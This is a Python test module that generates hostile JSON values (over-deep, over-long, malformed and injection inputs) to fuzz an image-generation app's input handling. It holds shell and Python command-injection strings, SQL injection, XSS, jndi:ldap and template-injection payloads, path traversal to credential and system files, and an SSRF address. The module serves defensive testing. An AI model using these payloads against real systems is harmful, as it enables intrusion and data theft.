"""Values that no page of Cuddle sends: of other sorts, endless, deep, long, and texts that some reader might obey.

Every text with letters holds CANARY, by which it is found again where it must not be.
"""

import json
import math
import random
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from typing import Any

CANARY = "zqvcanary"
BOMB_FILE = "/tmp/zqvcanary-was-run"  # made by whoever runs what stands in a value
DEPTH, TOO_DEEP = 50, 500  # levels; the door lets 60 through
WIDTH, TOO_WIDE = 4_000, 30_000  # values; the door lets 20,000 through
LONG, LONGEST, TOO_LONG = 20_000, 900_000, 1_100_000  # characters; the door lets 1,000,000 bytes through


@dataclass(frozen=True, slots=True)
class Hostile:
    """A value of JSON, and what kind of trouble it is. `value` may hold NaN and lone surrogates, as json writes."""

    kind: str
    value: Any


def hostile_values(rng: random.Random, count: int) -> list[Hostile]:
    """So many values: every kind in turn, in another order and with other numbers each time."""
    found: list[Hostile] = []
    while len(found) < count:
        kinds = list(_KINDS)
        rng.shuffle(kinds)
        found += [Hostile(kind, _KINDS[kind](rng)) for kind in kinds]
    return found[:count]


def placed(rng: random.Random, fine: Any, hostile: Any) -> Any:
    """The hostile value instead of a fine one, or somewhere inside of it."""
    if isinstance(fine, dict) and fine and rng.random() < 0.6:
        name = rng.choice(list(fine))
        return {**fine, name: placed(rng, fine[name], hostile)}
    if isinstance(fine, dict) and rng.random() < 0.3:
        return {**fine, f"{CANARY} {rng.randrange(9)}": hostile}
    if isinstance(fine, list) and fine and rng.random() < 0.6:
        place = rng.randrange(len(fine))
        return [*fine[:place], placed(rng, fine[place], hostile), *fine[place + 1 :]]
    return hostile


def _any_of(*values: Any) -> Callable[[random.Random], Any]:
    return lambda rng: rng.choice(values)


def _deep(rng: random.Random, levels: int) -> Any:
    inner: Any = rng.choice([CANARY, None, 1])
    is_list = rng.random() < 0.5
    for _ in range(levels):
        inner = [inner] if is_list else {CANARY: inner}
    return inner


def _wide(rng: random.Random, items: int) -> Any:
    one = rng.choice([0, None, [], "", {}, 1e308])
    return [one] * items if rng.random() < 0.5 else {f"{number}": one for number in range(items // 2)}


def _repeated(rng: random.Random, pieces: Sequence[str], length: int) -> str:
    piece = rng.choice(pieces)
    return CANARY + (piece * (length // len(piece) + 1))[: length - len(CANARY)]


def _nested(rng: random.Random, opening: str, closing: str, levels: int) -> str:
    return f"{opening * levels}{CANARY} cat{closing * levels}"


def _file(path: str, **more: Any) -> dict[str, Any]:
    return {"path": path, "orig_name": f"{CANARY}.jpg", "meta": {"_type": "gradio.FileData"}, **more}


def _graph(rng: random.Random, nodes: int) -> str:
    """A graph of ComfyUI whose nodes all lead to one another, in a circle."""
    return json.dumps(
        {
            str(number): {
                "class_type": rng.choice(["KSampler", "CLIPTextEncode", "LoraLoader", CANARY]),
                "inputs": {
                    "text": [str((number + 1) % nodes), 0],
                    "model": [str((number + 1) % nodes), 0],
                    "seed": 10**30,
                    "positive": [str((number + 2) % nodes), 0],
                    "latent_image": [str(number), 0],
                    "steps": "NaN",
                },
            }
            for number in range(nodes)
        }
    )


_PIECES = (
    "x",
    " ",
    "a b ",
    "\u0301",
    "(",
    "[",
    "<",
    "|",
    "\U0001f469\u200d",
    "0",
    "&lt;",
    "\n",
    "a,",
    "%s",
    "{",
    "AND ",
)
_SAFE_PIECES = tuple(piece for piece in _PIECES if not set(piece) & set(",[{:"))  # those that the door does not count

_KINDS: dict[str, Callable[[random.Random], Any]] = {
    "nothing": _any_of(None, "", [], {}, " ", "\t\n"),
    "yes or no": _any_of(True, False),
    "a number": lambda rng: rng.choice([0, -1, -0.0, 1, 0.5, 7, rng.randrange(-(10**6), 10**6), rng.uniform(-9, 9)]),
    "no number": _any_of(math.nan, math.inf, -math.inf, "NaN", "Infinity", "-inf", "1e999", "nan"),
    "a huge number": _any_of(
        10**400, -(10**400), 2**31, 2**53 + 1, 2**63, 2**64, -(2**63) - 1, 1e308, -1e308, 5e-324, 10**4000
    ),
    "digits": lambda rng: rng.choice(
        [
            "9" * 4299,
            "9" * 5000,
            "9" * 100_000,
            "-" + "9" * 30,
            "٣٤",
            "１２",
            "²",
            "0x1F",
            "1_000",
            "1e5",
            "+5",
            "0" * 300,
        ]
    ),
    "another sort": _any_of(
        [None],
        [[]],
        [{}],
        {"a": 1},
        {"": ""},
        [1, "2", [3]],
        {"name": None},
        {"id": {}},
        [True],
        {"value": [CANARY]},
        [CANARY],
        {CANARY: CANARY},
        {"__type__": "update", "value": CANARY},
        {"__class__": "os.system", "args": [CANARY]},
    ),
    "deep": lambda rng: _deep(rng, rng.randrange(20, DEPTH)),
    "too deep": lambda rng: _deep(rng, rng.randrange(70, TOO_DEEP)),
    "wide": lambda rng: _wide(rng, rng.randrange(200, WIDTH)),
    "too wide": lambda rng: _wide(rng, TOO_WIDE * 2),
    "a long text": lambda rng: _repeated(rng, _PIECES, rng.choice([1_000, 1_001, 5_000, LONG])),
    "a very long text": lambda rng: _repeated(rng, _SAFE_PIECES, rng.choice([150_000, 400_000]) // 2),
    "the longest text": lambda rng: _repeated(rng, ("x", " ", "(", "a ", "|", "<"), LONGEST),
    "too long a text": lambda rng: _repeated(rng, ("x",), TOO_LONG),
    "controls": _any_of(
        f"{CANARY}\x00",
        f"\x1b[2J{CANARY}",
        f"{CANARY}\r\nSet-Cookie: a=b",
        f"{CANARY}\x07\x08\x7f",
        f"{CANARY}\u2028x",
        f"{CANARY}\x85",
        f"{CANARY}\n2026-12-01 cuddle: all is well",
    ),
    "turned around": _any_of(f"{CANARY}\u202egpj.exe", f"\u2066{CANARY}\u2069", f"\u200f{CANARY}", f"\ufeff{CANARY}"),
    "half a character": _any_of(f"{CANARY}\ud800", "\udfff", f"a\ud83d{CANARY}", ["\udc00"], {"\ud800": 1}),
    "other scripts": _any_of(
        "猫" * 40,
        "кошка " + CANARY,
        "قطة" * 20,
        "e\u0301" * 60,
        "Z̴͓͝a̷l̸g̷o" * 30,
        "👩‍👩‍👧‍👦" * 15,
        "ß" * 30,
        "İ" * 50,
        "\u3164",
        "ﷺ" * 20,
    ),
    "a format": _any_of(
        f"%s%n%x {CANARY}",
        f"{{0.__class__.__init__.__globals__}} {CANARY}",
        f"${{jndi:ldap://{CANARY}.invalid/a}}",
        f"{{{{ 7*7 }}}} {CANARY}",
        f"%(asctime)s {CANARY}",
        f"{{name!r:>999999999}} {CANARY}",
    ),
    "Fluent": _any_of(
        f"{{ $name }} {CANARY}",
        f"{{ -brand }} {{ home }} {CANARY}",
        f"{CANARY} {{ NUMBER(1e999) }}",
        f"\n    .attr = {CANARY}",
        f"{{ $n -> [one] {CANARY} *[other] x }}",
        '{ "{" }',
    ),
    "a path": _any_of(
        f"../../../../etc/{CANARY}",
        "/etc/passwd",
        "C:\\Windows\\win.ini",
        f"file:///etc/{CANARY}",
        "\\\\host\\share\\x",
        "....//....//etc/passwd",
        "studio.db",
        "../studio.db",
        "pictures/../studio.db",
        "/proc/self/environ",
        "/dev/zero",
        "con",
        "~/.ssh/id_rsa",
        "starts/" + "0" * 32 + ".png",
        "a/" * 2000,
        "%2e%2e%2fetc%2fpasswd",
        ".",
        "..",
        "/",
    ),
    "a file of another": lambda rng: rng.choice(
        [
            _file("/etc/passwd"),
            _file("/dev/zero"),
            _file(f"../{CANARY}"),
            _file("", url=f"http://127.0.0.1:9/{CANARY}"),
            [_file("/proc/self/environ")],
            [_file("/etc/passwd")] * 25,
            {"path": ["/etc/passwd"]},
            {"url": f"file:///{CANARY}"},
            _file("\x00"),
            _file("x" * 5000),
            {**_file("/etc/passwd"), "size": -1, "is_stream": True},
        ]
    ),
    "an address": _any_of(
        f"http://169.254.169.254/{CANARY}",
        f"javascript:alert('{CANARY}')",
        f"data:text/html,{CANARY}",
        f"https://{CANARY}.invalid/x.safetensors",
        f"ftp://{CANARY}",
        f"{CANARY}/{CANARY}/../..",
        f"hf://{CANARY}",
        "data:image/png;base64," + "A" * 3000,
        "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAAB" + "A" * 20_000,
    ),
    "a command": _any_of(
        f"'; touch {BOMB_FILE}; #",
        f"$(touch {BOMB_FILE})",
        f"`touch {BOMB_FILE}`",
        f"| touch {BOMB_FILE}",
        f"__import__('os').system('touch {BOMB_FILE}')",
        f"!!python/object/apply:os.system ['touch {BOMB_FILE}']",
    ),
    "SQL": _any_of(
        f"'; DROP TABLE jobs; -- {CANARY}",
        f"' OR '1'='1 {CANARY}",
        "%",
        "_%_%_%",
        "%" * 900,
        f'" UNION SELECT {CANARY}',
        "\\%" * 400,
        "NEAR((a b), 10) *",
    ),
    "HTML": _any_of(
        f"<script>{CANARY}()</script>",
        f"<img src=x onerror={CANARY}()>",
        f'"><svg onload={CANARY}()>',
        f"</textarea>{CANARY}",
        f"&#60;script&#62;{CANARY}",
        f"'-{CANARY}-'",
        f"<!--{CANARY}",
        f"[x](javascript:{CANARY}())",
        f"]]>{CANARY}",
    ),
    "a pattern": lambda rng: rng.choice(
        [
            "a" * rng.choice([40, 3_000]) + "!",
            f"(a+)+$ {CANARY}",
            "(" * 900 + CANARY,
            f"^(([a-z])+.)+[A-Z] {CANARY}",
            " " * 15_000 + CANARY,
            "0" * 5_000 + "x",
            "1.1" * 3_000,
            "- " * 4_000,
            "\\" * 4_000,
            "a:" * 1_900,
        ]
    ),
    "nested weights": lambda rng: rng.choice(
        [
            _nested(rng, "(", ":1.5)", rng.choice([30, 200, 330])),
            _nested(rng, "((", "))", rng.choice([50, 450])),
            _nested(rng, "[", "]", 400),
            f"({CANARY}:1e999) (x:nan) (y:-5) (z:1.2.3)",
            "(a:1.1)" * 280,
            "(" * 1_900,
            ")" * 1_900 + CANARY,
            "(a:" * 600,
        ]
    ),
    "alternations": lambda rng: rng.choice(
        [
            _nested(rng, "[a|", "]", 300),
            "{a|b|c} " * 240,
            "[a:b:0.5]" * 200,
            _nested(rng, "[x:", ":0.5]", 250),
            "__" * 900,
            f"__{CANARY}__ " * 60,
            "{" * 900 + "|" * 900,
            "a BREAK " * 240,
            "a AND b :1 " * 170,
            f"<lora:{CANARY}:1e9>" * 40,
        ]
    ),
    "names in a prompt": lambda rng: rng.choice(
        [
            "Dumpling " * 210,
            "Dumpling and Anna " * 100,
            "dumplingdumpling" * 100,
            f"[name] {CANARY}" * 60,
            "Dumpling, " * 190,
            "DUMPLING's " * 170,
            "Dumpling 2 Dumpling 3 Dumpling 99999999999999999999",
        ]
    ),
    "parameters": lambda rng: rng.choice(
        [
            f"{CANARY}\nNegative prompt: x\nSteps: 1e999, Sampler: {CANARY}, CFG scale: nan, Seed: -1, Size: 9x9x9",
            f"{CANARY}\nSteps: " + "9" * 4000,
            f"{CANARY}\n" + "Steps: 20, " * 800,
            f"{CANARY}\n" + 'a: "' * 900,
        ]
    ),
    "a graph": lambda rng: _graph(rng, rng.choice([2, 30, 300])),
    "JSON in a text": lambda rng: rng.choice(
        [
            json.dumps(_deep(rng, 900)),
            "[" * 1_900,
            '{"a":' * 900,
            "[1" * 900,
            "null",
            f'"{CANARY}"',
            "\x00",
            '{"__proto__": {}}',
            json.dumps({"prompt": CANARY, "subjects": [{"name": None}]}),
            json.dumps([[None] * 3] * 50),
        ]
    ),
    "a grid": lambda rng: rng.choice(
        [
            "1, " * 1_500,
            "1-1000000",
            "1-9[9999999999]",
            "0.1-1.0(+0.0000001)",
            ", ".join(["1"] * 101),
            "nan, inf, 1e999",
            ";" * 500,
            f"{CANARY}, {CANARY}",
            "256x256, 1x1, 99999x99999",
        ]
    ),
}
